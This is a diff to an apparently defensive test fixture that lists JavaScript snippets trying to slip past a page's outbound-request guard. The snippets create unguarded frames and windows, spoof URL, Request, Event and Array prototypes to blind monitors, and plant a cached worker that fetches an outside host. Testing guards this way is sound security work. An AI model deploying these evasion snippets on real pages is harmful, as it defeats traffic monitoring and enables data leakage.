@@ -6,9 +6,22 @@ export interface Leak {
   readonly name: string;
   /** Run as it stands: the policy forbids the page to evaluate text, and the test's own way in is the debugger. */
   readonly attempt: string;
+  /**
+   * Why the ledger says nothing of it, where that is so: "defused" where what is left of the attempt leads nowhere,
+   * "unseen" where it is stopped by the browser in a place that the page is not told of.
+   */
+  readonly silence?: "defused" | "unseen";
 }
 
-const leak = (name: string, attempt: string): Leak => ({ name, attempt });
+const leak = (name: string, attempt: string, silence?: Leak["silence"]): Leak => ({
+  name,
+  attempt,
+  ...(silence === undefined ? {} : { silence }),
+});
+
+/** Runs in the page before the attempt, to blind those who look at it; each is put back, if it could be changed. */
+const blinded = (change: string, attempt: string) =>
+  `async (host) => { const undo = []; const set = (o, k, d) => { const old = Object.getOwnPropertyDescriptor(o, k); try { Object.defineProperty(o, k, { configurable: true, ...d }); undo.push(() => Object.defineProperty(o, k, old)); } catch {} }; try { ${change}; return await (${attempt})(host); } finally { undo.forEach((f) => f()); } }`;
 
 /** Ways to a realm in which no guard stands; each gives its window. */
 const realms: Readonly<Record<string, string>> = {
@@ -23,10 +36,13 @@ const realms: Readonly<Record<string, string>> = {
   "a frame out of a range": `(() => { document.body.append(document.createRange().createContextualFragment("<iframe>")); return window[0]; })()`,
   "a frame out of parsed markup": `(() => { const d = new DOMParser().parseFromString("<iframe></iframe>", "text/html"); document.body.append(document.adoptNode(d.body.firstChild)); return window[0]; })()`,
   "a frame out of an entity": `(() => { const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY a "&#60;iframe xmlns=\\'http://www.w3.org/1999/xhtml\\'/>">]><x>&a;</x>', "text/xml"); document.body.append(document.adoptNode(d.documentElement.firstChild)); return window[0]; })()`,
+  "a frame as a document": `(() => { const d = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe"); document.body.append(document.adoptNode(d.documentElement)); return window[0]; })()`,
+  "a frame out of markup with a prefix": `(() => { const d = document.implementation.createDocument(null, "x"); d.documentElement.innerHTML = '<h:iframe xmlns:h="http://www.w3.org/1999/xhtml"/>'; document.body.append(document.adoptNode(d.documentElement.firstChild)); return window[0]; })()`,
+  "a frame past patterns that never match": `(() => { const exec = RegExp.prototype.exec, test = RegExp.prototype.test; try { RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false; } catch {} try { const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow; } finally { try { RegExp.prototype.exec = exec; RegExp.prototype.test = test; } catch {} } })()`,
+  "a window in the picture": `await documentPictureInPicture.requestWindow()`,
   "a frame written in pieces": `(() => { document.write("<ifr"); document.write("ame></iframe>"); return window[0]; })()`,
   "a frame of a class": `(() => { class F extends HTMLIFrameElement {} customElements.define("x-frame", F, { extends: "iframe" }); document.body.append(new F()); return window[0]; })()`,
   "a frame in the shadow": `(() => { const d = document.createElement("div"); document.body.append(d); const f = document.createElement("iframe"); d.attachShadow({ mode: "closed" }).append(f); return f.contentWindow; })()`,
-  "a frame by a made-up name": `(() => { let n = 0; const f = document.createElement({ toString: () => (n++ ? "iframe" : "p") }); document.body.append(f); return window[0]; })()`,
   "an object": `(() => { const o = document.createElement("object"); o.data = "about:blank"; document.body.append(o); return o.contentWindow; })()`,
   "a window": `window.open("")`,
   "a window by the old document": `document.open("about:blank", "x", "popup")`,
@@ -59,7 +75,32 @@ export const pageLeaks: readonly Leak[] = [
   leak("fetch of a request", "(host) => fetch(new Request(`https://${host}/`))"),
   leak(
     "fetch of an address that changes",
-    `(host) => { let n = 0; return fetch({ toString: () => (n++ ? "https://" + host : "/") }).then(() => { throw Error("own"); }); }`,
+    `(host) => { let n = 0; return fetch({ toString: () => (n++ ? "https://" + host : "/") }).then(() => 0); }`,
+    "defused",
+  ),
+  leak(
+    "fetch past addresses that lie",
+    blinded(
+      'set(URL.prototype, "origin", { get: () => location.origin }); set(globalThis, "URL", { value: class { static canParse() { return false; } } })',
+      "(host) => fetch(`https://${host}/`)",
+    ),
+  ),
+  leak(
+    "fetch past a request that lies",
+    blinded(
+      'set(Request.prototype, "url", { get: () => location.href }); set(Request, Symbol.hasInstance, { value: () => false })',
+      "(host) => fetch(new Request(`https://${host}/`))",
+    ),
+  ),
+  leak(
+    "fetch of a frame with a made-up name",
+    '(host) => { let n = 0; const f = document.createElement({ toString: () => (n++ ? "iframe" : "p") }); document.body.append(f); return window[0]?.fetch(`https://${host}/`); }',
+    "defused",
+  ),
+  leak(
+    "a worker out of a cache",
+    '(host) => caches.open("leak").then(async (cache) => { await cache.put("/_next/static/leak.js", new Response(`fetch("https://${host}/")`, { headers: { "Content-Type": "text/javascript" } })); new Worker("/_next/static/leak.js"); })',
+    "unseen",
   ),
   leak(
     "fetch of a request that lies",
@@ -154,6 +195,27 @@ export const pageLeaks: readonly Leak[] = [
 /** In the page, which each of them would leave, or open another one from. */
 export const leavingLeaks: readonly Leak[] = [
   leak("location.href", "(host) => { location.href = `https://${host}/`; }"),
+  leak(
+    "location.href past events that go on",
+    blinded(
+      "set(Event.prototype, 'preventDefault', { value() {} }); set(Event.prototype, 'cancelable', { get: () => false })",
+      "(host) => { location.href = `https://${host}/`; }",
+    ),
+  ),
+  leak(
+    "location.href past events that lie",
+    blinded(
+      "set(NavigationDestination.prototype, 'url', { get: () => location.href }); set(NavigateEvent.prototype, 'destination', { get: () => location })",
+      "(host) => { location.href = `https://${host}/`; }",
+    ),
+  ),
+  leak(
+    "a link past lists that are empty",
+    blinded(
+      "set(Array.prototype, Symbol.iterator, { value: function* () {} }); set(Array.prototype, 'find', { value: () => undefined })",
+      "(host) => { const a = document.createElement('a'); a.href = 'https://' + host + '/'; a.target = '_blank'; document.body.append(a); a.click(); }",
+    ),
+  ),
   leak("location.assign", "(host) => { location.assign(`https://${host}/`); }"),
   leak("location.replace", "(host) => { location.replace(`https://${host}/`); }"),
   leak("navigation.navigate", "(host) => { navigation.navigate(`https://${host}/`); }"),
